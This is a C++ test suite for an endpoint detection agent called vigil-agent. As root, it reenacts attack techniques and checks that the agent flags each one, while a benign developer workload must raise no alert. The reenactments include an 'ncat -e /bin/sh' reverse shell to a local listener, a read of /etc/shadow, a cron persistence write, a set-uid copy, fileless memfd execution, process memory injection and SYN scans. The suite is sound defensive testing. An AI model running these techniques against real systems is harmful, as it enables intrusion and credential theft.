// Public attack scenarios and a benign suite, run for real as root against the
// real vigil-agent binary (every probe family, warm-up 0). Each attack scenario
// reproduces the activity and looks for its indicator in the agent's scored
// output; the benign suite must raise no alert >= 50. At exit the detection
// table is printed, and written as Markdown to $VIGIL_SCENARIO_TABLE if set:
//   sudo VIGIL_SCENARIO_TABLE=/tmp/table.md build/tests/scenarios/vigil_scenarios
// With VIGIL_RECORD_DIR set, both agents record labelled feature vectors there
// (scenarios.vds, benign.vds) for the evolution dataset (docs/learning.md).
#include <arpa/inet.h>
#include <fcntl.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/uio.h>

#include <nlohmann/json.hpp>
#include <random>

#include "util/net.h"
#include "util/proc.h"
#include "util/test_util.h"

extern char** environ;

namespace {

using namespace std::chrono_literals;
using vigil::test::Proc;
using vigil::test::sh;
using vigil::test::wait_until;
namespace fs = std::filesystem;

struct Row {
  std::string scenario;
  std::string indicator;
  std::string attack;
  int score = -1;  // -1: not detected
};
std::vector<Row>& table() {
  static std::vector<Row> rows;
  return rows;
}
int& benign_alerts() {
  static int n = -1;
  return n;
}

// Scored events of one agent run (alerts-out at threshold 1: every scored event).
class ScoredLog {
 public:
  explicit ScoredLog(fs::path path) : path_(std::move(path)) {}
  // The highest-scoring line carrying `indicator` (and matching `pred`), waited for.
  std::optional<nlohmann::json> find(const std::string& indicator,
                                     const std::function<bool(const nlohmann::json&)>& pred,
                                     std::chrono::milliseconds timeout = 5s) const {
    std::optional<nlohmann::json> best;
    wait_until(
        [&] {
          std::ifstream in(path_);
          std::string line;
          while (std::getline(in, line)) {
            auto j = nlohmann::json::parse(line, nullptr, false);
            if (j.is_discarded() || !j.contains("indicators")) continue;
            bool has = false;
            for (const auto& i : j["indicators"]) has |= i["id"] == indicator;
            if (has && pred(j) && (!best || j["score"] > (*best)["score"])) best = j;
          }
          return best.has_value();
        },
        timeout);
    return best;
  }
  [[nodiscard]] std::vector<nlohmann::json> all() const {
    std::vector<nlohmann::json> out;
    std::ifstream in(path_);
    std::string line;
    while (std::getline(in, line)) {
      auto j = nlohmann::json::parse(line, nullptr, false);
      if (!j.is_discarded() && j.contains("score")) out.push_back(j);
    }
    return out;
  }

 private:
  fs::path path_;
};

bool any(const nlohmann::json&) { return true; }

constexpr const char* kNs = "vgl-scen-ns";
constexpr const char* kRootIf = "vgl-sc0";
constexpr const char* kNsIf = "vgl-sc1";
constexpr const char* kRootAddr = "10.202.1.1";

void teardown_net() {
  sh(std::string("ip link del ") + kRootIf);
  sh(std::string("ip netns del ") + kNs);
}

bool setup_net() {
  teardown_net();
  return sh(std::string("ip netns add ") + kNs) &&
         sh(std::string("ip link add ") + kRootIf + " type veth peer name " + kNsIf) &&
         sh(std::string("ip link set ") + kNsIf + " netns " + kNs) &&
         sh(std::string("ip addr add ") + kRootAddr + "/24 dev " + kRootIf) &&
         sh(std::string("ip link set ") + kRootIf + " up") &&
         sh(std::string("ip -n ") + kNs + " addr add 10.202.1.2/24 dev " + kNsIf) &&
         sh(std::string("ip -n ") + kNs + " link set " + kNsIf + " up");
}

// From the second namespace: `repeat` rounds of one SYN to each of `count` ports.
int syns_from_ns(int first_port, int count, int repeat) {
  return vigil::test::syns_from_netns(kNs, {kRootAddr}, first_port, count, repeat);
}

// Runs argv as a child (optionally as `uid`) and waits; returns its pid.
pid_t run(const std::vector<std::string>& args, std::optional<uid_t> uid = {}) {
  const pid_t pid = fork();
  if (pid == 0) {
    const int null = open("/dev/null", O_RDWR);
    dup2(null, 1);
    dup2(null, 2);
    if (uid && setresuid(*uid, *uid, *uid) != 0) _exit(126);
    std::vector<char*> argv;
    for (const auto& a : args) argv.push_back(const_cast<char*>(a.c_str()));
    argv.push_back(nullptr);
    execv(argv[0], argv.data());
    _exit(127);
  }
  waitpid(pid, nullptr, 0);
  return pid;
}

// One process trying closed loopback ports [first, last): each connect is refused.
void refused_connects(int first, int last) {
  for (int p = first; p < last; ++p) {
    const int s = socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(static_cast<std::uint16_t>(p));
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    connect(s, reinterpret_cast<sockaddr*>(&a), sizeof(a));
    close(s);
  }
}

std::unique_ptr<Proc> start_agent(const fs::path& dir, const std::string& threshold,
                                  std::vector<std::string> extra = {}) {
  fs::create_directories(dir / "run");
  std::vector<std::string> args = {VIGIL_AGENT_BIN,
                                   "--probes",
                                   "process,network,memory,file",
                                   "--alerts-out",
                                   (dir / "scored.jsonl").string(),
                                   "--alert-threshold",
                                   threshold,
                                   "--baseline-warmup",
                                   "0",
                                   "--state-dir",
                                   (dir / "state").string(),
                                   "--stats-interval",
                                   "0"};
  args.insert(args.end(), extra.begin(), extra.end());
  if (const char* rec = std::getenv("VIGIL_RECORD_DIR")) {
    // Recording the evolution dataset (deploy/record-dataset.sh): the attack
    // agent's indicator events are positives, the benign agent's events negatives.
    const bool benign = threshold != "1";
    args.insert(args.end(), {"--record-features",
                             (fs::path(rec) / (benign ? "benign.vds" : "scenarios.vds")).string(),
                             "--record-label", benign ? "benign" : "scenario"});
  }
  auto agent = std::make_unique<Proc>(args, dir / "run");
  if (!wait_until([&] { return agent->err().find("running on host") != std::string::npos; }, 30s)) {
    return nullptr;
  }
  return agent;
}

// ---------------------------------------------------------------------------
// Attack activities, shared by the Scenarios suite (built-in detections) and
// the rarity test (built-in detections off). `dir` must be world-readable.

// A "service" (a copy of dash named httpd) runs `sh -c id`.
void act_shell_from_service(const fs::path& dir) {
  const auto httpd = dir / "httpd";
  fs::copy_file("/bin/dash", httpd, fs::copy_options::overwrite_existing);
  run({httpd.string(), "-c", "/bin/sh -c id; true"});
}

// The remote end of an attack, on loopback, in a child process of its own:
// the attacking process and its ancestors never listen (a listening ancestor
// would make every later activity "network-facing" for the rarity path).
// With a script, it accepts one connection, waits a moment (the operator),
// sends the script and reads until the other side closes.
class RemoteEnd {
 public:
  explicit RemoteEnd(std::string script = {}) {
    int p[2];
    if (pipe(p) != 0) return;
    pid_ = fork();
    if (pid_ == 0) {
      close(p[0]);
      const vigil::test::LoopbackListener srv;
      const std::uint16_t port = srv.ok() ? ntohs(srv.addr.sin_port) : 0;
      if (write(p[1], &port, sizeof(port)) != sizeof(port) || port == 0) _exit(1);
      close(p[1]);
      if (script.empty()) {
        pause();  // the kernel completes handshakes from the backlog
        _exit(0);
      }
      const int c = accept(srv.fd, nullptr, nullptr);
      if (c < 0) _exit(2);
      std::this_thread::sleep_for(1s);
      if (write(c, script.data(), script.size()) != static_cast<ssize_t>(script.size())) _exit(3);
      char buf[512];
      while (read(c, buf, sizeof(buf)) > 0) {
      }
      _exit(0);
    }
    close(p[1]);
    if (read(p[0], &port_, sizeof(port_)) != sizeof(port_)) port_ = 0;
    close(p[0]);
  }
  ~RemoteEnd() {
    if (pid_ > 0) {
      kill(pid_, SIGKILL);
      waitpid(pid_, nullptr, 0);
    }
  }
  RemoteEnd(const RemoteEnd&) = delete;
  RemoteEnd& operator=(const RemoteEnd&) = delete;
  [[nodiscard]] bool ok() const { return port_ != 0; }
  [[nodiscard]] std::uint16_t port() const { return port_; }

 private:
  pid_t pid_ = -1;
  std::uint16_t port_ = 0;
};

// `ncat -e /bin/sh 127.0.0.1 PORT`: ncat connects, then runs a shell whose
// stdin/stdout/stderr are the socket; the operator at the other end types
// `id` and `exit`.
::testing::AssertionResult act_reverse_shell(const fs::path& dir) {
  const RemoteEnd operator_end("id\nexit\n");
  if (!operator_end.ok()) return ::testing::AssertionFailure() << "no loopback listener";
  fs::create_directories(dir / "run");
  Proc ncat({"/usr/bin/ncat", "-e", "/bin/sh", "127.0.0.1", std::to_string(operator_end.port())},
            dir / "run");
  const int rc = ncat.wait();
  if (rc != 0) return ::testing::AssertionFailure() << "ncat exited " << rc;
  return ::testing::AssertionSuccess();
}

// A set-uid-root copy of id in `dir`, run by nobody.
void act_setuid_copy(const fs::path& dir) {
  const auto helper = dir / "suid-id";
  fs::copy_file("/usr/bin/id", helper, fs::copy_options::overwrite_existing);
  chmod(helper.c_str(), 04755);
  run({helper.string()}, 65534);
}

// What a dropper script does: write a file, chmod +x, run it.
void act_dropped_binary(const fs::path& dir) {
  const auto dropped = (dir / "dropped").string();
  run({"/bin/sh", "-c",
       "cat /bin/true > " + dropped + " && chmod +x " + dropped + " && " + dropped});
}

// A new file in /etc/cron.d written by a shell.
void act_cron_write() {
  const std::string path = "/etc/cron.d/vigil-scenario";
  run({"/bin/sh", "-c", "echo '* * * * * root true' > " + path});
  fs::remove(path);
}

// /etc/shadow read by a copy of cat in `dir`.
void act_shadow_read(const fs::path& dir) {
  const auto cat = dir / "cat";
  fs::copy_file("/bin/cat", cat, fs::copy_options::overwrite_existing);
  run({"/bin/sh", "-c", cat.string() + " /etc/shadow > /dev/null"});
}

// memfd_create + fexecve of a copy of /bin/true; returns the child's pid.
pid_t act_fileless() {
  const pid_t child = fork();
  if (child == 0) {
    const int fd = memfd_create("payload", MFD_CLOEXEC);
    const int src = open("/bin/true", O_RDONLY);
    char buf[65536];
    ssize_t n = 0;
    while ((n = read(src, buf, sizeof(buf))) > 0) {
      if (write(fd, buf, static_cast<std::size_t>(n)) != n) _exit(2);
    }
    char* argv[] = {const_cast<char*>("payload"), nullptr};
    fexecve(fd, argv, environ);
    _exit(3);
  }
  waitpid(child, nullptr, 0);
  return child;
}

// Recon, then a connection to what answered, then a program: one process.
pid_t act_scan_connect_exec() {
  const RemoteEnd open_port;
  if (!open_port.ok()) return -1;
  const pid_t actor = fork();
  if (actor == 0) {
    refused_connects(41000, 41030);
    const int c = socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(open_port.port());
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (connect(c, reinterpret_cast<sockaddr*>(&a), sizeof(a)) != 0) _exit(1);
    const int null = open("/dev/null", O_RDWR);
    dup2(null, 1);
    execl("/usr/bin/id", "id", nullptr);
    _exit(2);
  }
  waitpid(actor, nullptr, 0);
  return actor;
}

class Scenarios : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    if (::geteuid() != 0) return;
    dir_ = new vigil::test::TempDir();
    fs::permissions(dir_->path(), fs::perms::owner_all | fs::perms::group_read |
                                      fs::perms::group_exec | fs::perms::others_read |
                                      fs::perms::others_exec);
    net_ok_ = setup_net();
    agent_ = start_agent(dir_->path(), "1", {"--xdp-iface", kRootIf}).release();
    log_ = new ScoredLog(dir_->path() / "scored.jsonl");
    start_beacon();
  }
  // The beacon runs for 60 s beside the other scenarios; its own test, the
  // last one, waits for it. The kernel completes each handshake from the
  // listen backlog, so nobody needs to accept.
  static void start_beacon() {
    beacon_srv_ = new vigil::test::LoopbackListener(64);
    if (!beacon_srv_->ok()) return;
    beacon_ = fork();
    if (beacon_ == 0) {
      std::mt19937 rng(3);
      std::uniform_real_distribution<double> jitter(-0.2, 0.2);
      const auto end = std::chrono::steady_clock::now() + 60s;
      while (std::chrono::steady_clock::now() < end) {
        const int c = beacon_srv_->connect_client();
        if (c >= 0) close(c);
        std::this_thread::sleep_for(std::chrono::duration<double>(2.0 * (1.0 + jitter(rng))));
      }
      _exit(0);
    }
  }
  static void TearDownTestSuite() {
    if (beacon_ > 0) {
      kill(beacon_, SIGKILL);
      waitpid(beacon_, nullptr, 0);
    }
    delete beacon_srv_;
    if (agent_ != nullptr) {
      kill(agent_->pid(), SIGINT);
      agent_->wait_for(30s);
    }
    delete agent_;
    delete log_;
    delete dir_;
    teardown_net();
  }
  void SetUp() override {
    if (::geteuid() != 0 && std::getenv("CI") == nullptr) GTEST_SKIP() << "needs root";
    ASSERT_EQ(::geteuid(), 0) << "privileged test not run as root under CI";
    ASSERT_NE(agent_, nullptr) << "agent did not start";
  }

  // Records the row and checks the indicator fired with at least `min_score`.
  static void expect(const std::string& scenario, const std::string& indicator,
                     const std::function<bool(const nlohmann::json&)>& pred, int min_score = 50,
                     std::chrono::milliseconds timeout = 5s) {
    auto hit = log_->find(indicator, pred, timeout);
    Row row{scenario, indicator, "", -1};
    if (hit) {
      row.score = (*hit)["score"].get<int>();
      for (const auto& i : (*hit)["indicators"]) {
        if (i["id"] == indicator) row.attack = i["attack"].get<std::string>();
      }
    }
    table().push_back(row);
    ASSERT_TRUE(hit) << scenario << ": no event with indicator " << indicator;
    EXPECT_GE(row.score, min_score) << scenario;
  }

  static fs::path dir() { return dir_->path(); }

  static inline vigil::test::TempDir* dir_ = nullptr;
  static inline Proc* agent_ = nullptr;
  static inline ScoredLog* log_ = nullptr;
  static inline bool net_ok_ = false;
  static inline vigil::test::LoopbackListener* beacon_srv_ = nullptr;
  static inline pid_t beacon_ = -1;
};

auto comm_is(const std::string& comm) {
  return [comm](const nlohmann::json& j) { return j["event"]["comm"] == comm; };
}
auto pid_is(pid_t pid) {
  return [pid](const nlohmann::json& j) { return j["event"]["pid"] == pid; };
}

TEST_F(Scenarios, ShellSpawnedByAService) {
  act_shell_from_service(dir());
  expect("shell spawned by a service (`httpd` runs `sh -c id`)", "shell-from-service",
         comm_is("sh"));
}

TEST_F(Scenarios, ReverseShellToALocalListener) {
  ASSERT_TRUE(act_reverse_shell(dir()));
  expect("reverse shell: `ncat -e /bin/sh 127.0.0.1 PORT` to a local listener", "reverse-shell",
         comm_is("sh"));
}

TEST_F(Scenarios, SynScanFromASecondNamespace) {
  ASSERT_TRUE(net_ok_);
  ASSERT_EQ(syns_from_ns(3000, 600, 1), 0);
  expect("SYN scan of 600 ports from a second namespace", "port-scan", any);
}

TEST_F(Scenarios, BoundedSynFloodFromASecondNamespace) {
  ASSERT_TRUE(net_ok_);
  ASSERT_EQ(syns_from_ns(80, 1, 4000), 0);  // ~1 s of SYNs to one port
  expect("SYN flood (4000 SYNs, one port) from a second namespace", "syn-flood", any);
}

TEST_F(Scenarios, ConnectScanFromOneProcess) {
  // One process trying 100 closed loopback ports: each connect is refused.
  const pid_t scanner = fork();
  if (scanner == 0) {
    refused_connects(40000, 40100);
    _exit(0);
  }
  waitpid(scanner, nullptr, 0);
  expect("connect scan: one process, 100 refused loopback ports", "connect-scan", pid_is(scanner));
}

TEST_F(Scenarios, WxAnonymousMemory) {
  const pid_t child = fork();
  if (child == 0) {
    void* p =
        mmap(nullptr, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    _exit(p == MAP_FAILED ? 1 : 0);
  }
  waitpid(child, nullptr, 0);
  expect("W+X anonymous memory", "wx-memory", pid_is(child));
}

TEST_F(Scenarios, RwToRxStaging) {
  const pid_t child = fork();
  if (child == 0) {
    void* p = mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    std::memset(p, 0xc3, 16);
    _exit(mprotect(p, 4096, PROT_READ | PROT_EXEC) == 0 ? 0 : 1);
  }
  waitpid(child, nullptr, 0);
  expect("RW->RX staging of anonymous memory", "exec-added-anon", pid_is(child), 45);
}

TEST_F(Scenarios, FilelessExecFromMemfd) {
  const pid_t child = act_fileless();
  expect("fileless exec via memfd_create + execve", "fileless-exec", pid_is(child));
}

TEST_F(Scenarios, PtraceAttachToAnotherProcess) {
  const pid_t target = vigil::test::ptrace_attach_a_child();
  ASSERT_GT(target, 0);
  expect("PTRACE_ATTACH to another process", "ptrace-attach",
         [&](const nlohmann::json& j) { return j["event"].value("target_pid", 0) == target; });
}

TEST_F(Scenarios, ProcessVmWritevIntoAChild) {
  static char target_buf[64] = "untouched";
  const pid_t child = fork();
  if (child == 0) {
    pause();
    _exit(0);
  }
  char payload[] = "injected";
  iovec local{payload, sizeof(payload)};
  iovec remote{target_buf, sizeof(payload)};
  EXPECT_GT(process_vm_writev(child, &local, 1, &remote, 1, 0), 0);
  kill(child, SIGKILL);
  waitpid(child, nullptr, 0);
  expect("process_vm_writev into a child", "inject-vm-writev", any);
}

TEST_F(Scenarios, SetuidRootHelperRunByNobody) {
  act_setuid_copy(dir());
  expect("set-uid-root copy of a helper run by an unprivileged user", "setuid-exec-writable",
         comm_is("suid-id"));
}

TEST_F(Scenarios, DroppedBinaryRunFromTmp) {
  act_dropped_binary(dir());  // in /tmp
  expect("dropped binary: written to /tmp, chmod +x, executed", "dropped-exec", comm_is("dropped"));
}

TEST_F(Scenarios, CrashStormOfOneExecutable) {
  for (int i = 0; i < 50; ++i) {
    const pid_t child = fork();
    if (child == 0) {
      rlimit none{0, 0};
      setrlimit(RLIMIT_CORE, &none);
      signal(SIGSEGV, SIG_DFL);
      raise(SIGSEGV);
      _exit(0);
    }
    waitpid(child, nullptr, 0);
  }
  expect("crash storm: one executable crashing 50 times", "crash-storm", any);
}

TEST_F(Scenarios, CronPersistenceWrittenByAShell) {
  act_cron_write();
  expect("persistence: a new file in /etc/cron.d written by a shell", "cron-write", any);
}

TEST_F(Scenarios, ShadowReadByACopyOfCat) {
  act_shadow_read(dir());
  expect("credential access: /etc/shadow read by a copy of cat in /tmp", "credential-read",
         comm_is("cat"));
}

TEST_F(Scenarios, ScanThenConnectThenExec) {
  const pid_t actor = act_scan_connect_exec();
  ASSERT_GT(actor, 0);
  expect("scan -> connect -> exec in one process tree", "scan-connect-exec", pid_is(actor));
}

// Last: waits for the 60 s beacon started with the suite.
TEST_F(Scenarios, BeaconToALocalListener) {
  ASSERT_GT(beacon_, 0) << "the beacon did not start";
  int status = 0;
  ASSERT_EQ(waitpid(beacon_, &status, 0), beacon_);
  const pid_t beacon = beacon_;
  beacon_ = -1;
  EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0);
  expect("beacon: connects to a local listener every 2 s +- 20 % for 60 s", "beaconing",
         pid_is(beacon));
}

// ---------------------------------------------------------------------------

// Everyday developer and admin work in `dir`: a shell loop of everyday
// commands for `loop_s` seconds, beside a make -j2 build, git, a local HTTP
// server answering 200 requests, and package metadata.
void benign_workload(const fs::path& dir, int loop_s) {
  const auto work = dir / "work";
  fs::create_directories(work);
  fs::create_directories(dir / "run");
  const auto w = work.string();

  // A shell loop of everyday commands, beside the other workloads.
  Proc loop({"/bin/sh", "-c",
             "end=$(($(date +%s)+" + std::to_string(loop_s) +
                 ")); while [ $(date +%s) -lt $end ]; do date >/dev/null; "
                 "ls / >/dev/null; grep -c root /etc/passwd >/dev/null; sleep 0.05; done"},
            dir / "run");
  // Build a small C project with make -j2.
  for (int i = 0; i < 8; ++i) {
    std::ofstream(work / ("f" + std::to_string(i) + ".c"))
        << "int f" << i << "(int x) { return x * " << i << "; }\n";
  }
  std::ofstream(work / "main.c") << "int f0(int);\nint main(void) { return f0(0); }\n";
  std::ofstream(work / "Makefile") << "OBJS = main.o f0.o f1.o f2.o f3.o f4.o f5.o f6.o f7.o\n"
                                      "app: $(OBJS)\n\tcc -o app $(OBJS)\n";
  EXPECT_TRUE(sh("make -C " + w + " -j2"));
  // git init / commit.
  EXPECT_TRUE(sh("cd " + w +
                 " && git init -q && git add -A && git -c user.name=t -c "
                 "user.email=t@example.invalid commit -qm init"));
  // A local HTTP server answering 200 requests.
  Proc server({"/usr/bin/env", "python3", "-m", "http.server", "--bind", "127.0.0.1", "18731",
               "--directory", w},
              dir / "run");
  ASSERT_TRUE(wait_until([] { return sh("curl -sf http://127.0.0.1:18731/ -o /dev/null"); }, 10s));
  for (int i = 0; i < 200; ++i) sh("curl -sf http://127.0.0.1:18731/main.c -o /dev/null");
  kill(server.pid(), SIGTERM);
  server.wait();
  // Package metadata, and a package built, installed and removed (offline).
  sh("apt-cache policy bash");
  const auto pkg = dir / "pkg";
  fs::create_directories(pkg / "DEBIAN");
  fs::create_directories(pkg / "usr/share/doc/vigil-benign-demo");
  std::ofstream(pkg / "DEBIAN/control") << "Package: vigil-benign-demo\nVersion: 1.0\n"
                                           "Architecture: all\nMaintainer: vigil tests "
                                           "<t@example.invalid>\nDescription: benign workload\n";
  std::ofstream(pkg / "usr/share/doc/vigil-benign-demo/README") << "demo\n";
  const auto deb = (dir / "vigil-benign-demo.deb").string();
  EXPECT_TRUE(sh("dpkg-deb --build -Zgzip " + pkg.string() + " " + deb + " >/dev/null"));
  EXPECT_TRUE(sh("dpkg -i " + deb + " >/dev/null 2>&1"));
  EXPECT_TRUE(sh("dpkg -r vigil-benign-demo >/dev/null 2>&1"));
  // Administration: sudo, and a user added and removed.
  EXPECT_TRUE(sh("sudo -u nobody id >/dev/null && sudo true"));
  const std::string user = "vigilbn" + std::to_string(::getpid() % 100000);
  EXPECT_TRUE(sh("useradd -M -s /usr/sbin/nologin " + user + " && id " + user +
                 " >/dev/null && userdel " + user));
  EXPECT_EQ(loop.wait(), 0) << "the everyday-commands loop failed";
}

// The host levels an agent's alert output reports ("type":"level" lines).
std::vector<std::string> levels_reached(const fs::path& alerts) {
  std::vector<std::string> out;
  std::ifstream in(alerts);
  for (std::string line; std::getline(in, line);) {
    auto j = nlohmann::json::parse(line, nullptr, false);
    if (!j.is_discarded() && j.value("type", "") == "level") {
      out.push_back(j.value("to", ""));
    }
  }
  return out;
}

// Everyday work on a fresh host (no baseline, no learned benign rate) raises
// no alert at or above 50, and, awareness being calibrated (docs/scoring.md,
// "Host awareness"), may make the host attentive, never alert or critical.
// Measured before that change: calm to critical in 3 seconds, still critical
// 5 minutes after the work stopped.
TEST(BenignSuite, OnAFreshHostRaisesNoAlertAndNeverReachesAlertLevel) {
  if (::geteuid() != 0 && std::getenv("CI") == nullptr) GTEST_SKIP() << "needs root";
  ASSERT_EQ(::geteuid(), 0) << "privileged test not run as root under CI";
  vigil::test::TempDir dir;
  auto agent = start_agent(dir.path(), "50");
  ASSERT_NE(agent, nullptr);
  benign_workload(dir.path(), 60);

  std::this_thread::sleep_for(1s);
  kill(agent->pid(), SIGINT);
  agent->wait_for(30s);
  ScoredLog log(dir.path() / "scored.jsonl");
  std::vector<std::string> alerts;
  for (const auto& j : log.all()) {
    if (j["score"].get<int>() >= 50) alerts.push_back(j.dump());
  }
  benign_alerts() = static_cast<int>(alerts.size());
  std::string listed;
  for (std::size_t i = 0; i < alerts.size() && i < 5; ++i) listed += "\n  " + alerts[i];
  EXPECT_TRUE(alerts.empty()) << alerts.size() << " alerts:" << listed;
  std::string reached;
  for (const auto& to : levels_reached(dir.path() / "scored.jsonl")) {
    reached += to + " ";
    EXPECT_TRUE(to == "calm" || to == "attentive") << "benign work took the host to " << to;
  }
  std::cout << "host levels reached: " << (reached.empty() ? "none (calm)" : reached) << "\n";
}

// ---------------------------------------------------------------------------
// The rarity path on its own (docs/learning.md, "Rarity"): every built-in
// indicator, Sigma rule and stateful detector switched off, a host memory
// learned from the benign workload. Then the benign workload again in another
// directory (a second recording run: it must raise nothing) and the public
// attack activities (at least 3 must alert through a rare-* indicator).

struct RarityRow {
  std::string scenario;
  std::string indicator;  // empty: not caught
  int score = -1;
  std::string contexts;
};
std::vector<RarityRow>& rarity_table() {
  static std::vector<RarityRow> rows;
  return rows;
}

// Lines of a JSON-lines file that start in bytes [from, to).
std::vector<nlohmann::json> lines_from(const fs::path& path, std::uintmax_t from,
                                       std::uintmax_t to = UINTMAX_MAX) {
  std::vector<nlohmann::json> out;
  std::ifstream in(path);
  in.seekg(static_cast<std::streamoff>(from));
  std::string line;
  while (static_cast<std::uintmax_t>(in.tellg()) < to && std::getline(in, line)) {
    auto j = nlohmann::json::parse(line, nullptr, false);
    if (!j.is_discarded() && j.contains("score")) out.push_back(std::move(j));
  }
  return out;
}
std::uintmax_t size_of(const fs::path& path) {
  std::error_code ec;
  const auto n = fs::file_size(path, ec);
  return ec ? 0 : n;
}
std::string rare_indicator(const nlohmann::json& j) {
  for (const auto& i : j.value("indicators", nlohmann::json::array())) {
    const auto id = i.value("id", std::string());
    if (id.starts_with("rare-")) return id;
  }
  return {};
}

TEST(RarityPath, CatchesPublicScenariosWithBuiltInDetectionsOff) {
  REQUIRE_ROOT_OR_SKIP();
  vigil::test::TempDir dir;
  fs::permissions(dir.path(), fs::perms::owner_all | fs::perms::group_read | fs::perms::group_exec |
                                  fs::perms::others_read | fs::perms::others_exec);
  constexpr int kLearnS = 60;
  const auto started = std::chrono::steady_clock::now();
  auto agent = start_agent(dir.path(), "50",
                           {"--no-builtin-detections", "--rarity-learn", std::to_string(kLearnS)});
  ASSERT_NE(agent, nullptr);
  EXPECT_NE(agent->err().find("BUILT-IN DETECTIONS ARE OFF"), std::string::npos)
      << "the evaluation mode must say so loudly: " << agent->err();
  const auto alerts = dir.path() / "scored.jsonl";

  // Learning: the host memory takes in the benign workload (first run).
  benign_workload(dir.path() / "learn", 45);
  std::this_thread::sleep_until(started + std::chrono::seconds(kLearnS + 2));
  const auto learned = lines_from(alerts, 0);
  EXPECT_TRUE(learned.empty()) << "alerts while learning: " << learned.front().dump();

  // A second run of the same benign work, elsewhere: nothing may alert.
  const auto replay_from = size_of(alerts);
  benign_workload(dir.path() / "replay", 20);
  std::this_thread::sleep_for(2s);
  const auto replay = lines_from(alerts, replay_from);
  EXPECT_TRUE(replay.empty()) << replay.size() << " alerts on benign work after learning, first: "
                              << replay.front().dump();

  // The public attack activities, one window each.
  const auto atk = dir.path() / "atk";
  fs::create_directories(atk);
  fs::permissions(atk, fs::perms::owner_all | fs::perms::group_read | fs::perms::group_exec |
                           fs::perms::others_read | fs::perms::others_exec);
  struct Case {
    std::string name;
    std::function<pid_t()> act;  // returns a pid to match, or 0: match by comm
    std::vector<std::string> comms;
  };
  const std::vector<Case> cases = {
      {"shell spawned by a service (`httpd` runs `sh -c id`)",
       [&] {
         act_shell_from_service(atk);
         return 0;
       },
       {"sh", "httpd"}},
      {"reverse shell: `ncat -e /bin/sh` to a local listener",
       [&] {
         EXPECT_TRUE(act_reverse_shell(atk));
         return 0;
       },
       {"sh", "ncat"}},
      {"set-uid-root copy of id run by nobody",
       [&] {
         act_setuid_copy(atk);
         return 0;
       },
       {"suid-id"}},
      {"dropped binary: written, chmod +x, executed",
       [&] {
         act_dropped_binary(atk);
         return 0;
       },
       {"dropped", "sh", "chmod", "cat"}},
      {"persistence: a new file in /etc/cron.d written by a shell",
       [] {
         act_cron_write();
         return 0;
       },
       {"sh"}},
      {"credential access: /etc/shadow read by a copy of cat",
       [&] {
         act_shadow_read(atk);
         return 0;
       },
       {"cat"}},
      {"fileless exec via memfd_create + execve", [] { return act_fileless(); }, {}},
      {"scan -> connect -> exec in one process tree", [] { return act_scan_connect_exec(); }, {}},
  };
  std::vector<std::pair<std::uintmax_t, pid_t>> windows;
  for (const auto& c : cases) {
    const auto from = size_of(alerts);
    windows.emplace_back(from, c.act());
    std::this_thread::sleep_for(1500ms);  // the next window starts after this one's alerts
  }
  std::this_thread::sleep_for(2s);
  windows.emplace_back(size_of(alerts), 0);
  int caught = 0;
  for (std::size_t i = 0; i < cases.size(); ++i) {
    RarityRow row{cases[i].name, "", -1, ""};
    for (const auto& j : lines_from(alerts, windows[i].first, windows[i + 1].first)) {
      const auto id = rare_indicator(j);
      if (id.empty()) continue;
      const auto& ev = j["event"];
      const bool ours = windows[i].second > 0
                            ? ev.value("pid", 0) == windows[i].second
                            : std::ranges::find(cases[i].comms, ev.value("comm", std::string())) !=
                                  cases[i].comms.end();
      if (ours && j["score"].get<int>() > row.score) {
        row.indicator = id;
        row.score = j["score"].get<int>();
        row.contexts = j.contains("rarity")
                           ? j["rarity"].value("contexts", nlohmann::json::array()).dump()
                           : "";
      }
    }
    if (row.score >= 50) ++caught;
    rarity_table().push_back(row);
  }
  kill(agent->pid(), SIGINT);
  agent->wait_for(30s);
  EXPECT_GE(caught, 3) << "the rarity path alone alerted on " << caught << " of " << cases.size()
                       << " public scenarios";
}

class TablePrinter : public ::testing::Environment {
 public:
  void TearDown() override {
    if (table().empty() && rarity_table().empty()) return;
    std::string md = "| scenario | indicator | ATT&CK | score |\n|---|---|---|---|\n";
    for (const auto& r : table()) {
      md += "| " + r.scenario + " | `" + r.indicator + "` | " +
            (r.attack.empty() ? "-" : r.attack) + " | " +
            (r.score < 0 ? "not detected" : std::to_string(r.score)) + " |\n";
    }
    if (benign_alerts() >= 0) {
      md += "\nBenign suite: " + std::to_string(benign_alerts()) + " alerts >= 50.\n";
    }
    if (!rarity_table().empty()) {
      md +=
          "\nRarity path alone (built-in detections off, host memory learned from the benign "
          "workload):\n\n| scenario | indicator | score | contexts |\n|---|---|---|---|\n";
      for (const auto& r : rarity_table()) {
        md += "| " + r.scenario + " | " + (r.indicator.empty() ? "-" : "`" + r.indicator + "`") +
              " | " + (r.score < 0 ? "not detected" : std::to_string(r.score)) + " | " +
              (r.contexts.empty() ? "-" : r.contexts) + " |\n";
      }
    }
    std::printf("\n%s", md.c_str());
    if (const char* out = std::getenv("VIGIL_SCENARIO_TABLE")) {
      std::ofstream(out) << md;
    }
  }
};
const auto* const kPrinter = ::testing::AddGlobalTestEnvironment(new TablePrinter);

}  // namespace
